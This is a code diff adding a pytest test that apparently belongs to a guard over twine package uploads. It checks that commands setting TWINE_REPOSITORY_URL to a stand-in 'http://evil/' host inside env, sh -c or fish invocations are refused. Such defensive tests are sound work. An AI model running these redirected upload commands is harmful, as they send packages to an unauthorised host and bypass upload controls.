@@ -39,6 +39,19 @@ def test_twine_destination_options_are_refused(argv: str) -> None:
         check(argv.split(), {}, index_url="http://i/simple/", upload_url=UPLOAD)
 
 
+@pytest.mark.parametrize("argv", [
+    ["env", "TWINE_REPOSITORY_URL=http://evil/", "twine", "upload", "x.whl"],
+    ["sh", "-c", "TWINE_REPOSITORY_URL=http://evil/ twine upload x.whl"],
+    ["sh", "-c", "export TWINE_REPOSITORY=pypi; twine upload x.whl"],
+    ["fish", "-c", "set -gx TWINE_REPOSITORY_URL http://evil/; twine upload x.whl"],
+])
+def test_twine_destination_variables_set_inside_the_command_are_refused(
+    argv: list[str]
+) -> None:
+    with pytest.raises(RefusedError, match="TWINE_REPOSITORY"):
+        check(argv, {}, index_url="http://i/simple/", upload_url=UPLOAD)
+
+
 def test_twine_upload_needs_an_upload_url_and_twine_check_does_not() -> None:
     with pytest.raises(RefusedError, match=r"no upload-url.*public index"):
         check(["twine", "upload", "dist/x.whl"], {}, index_url="http://i/simple/")
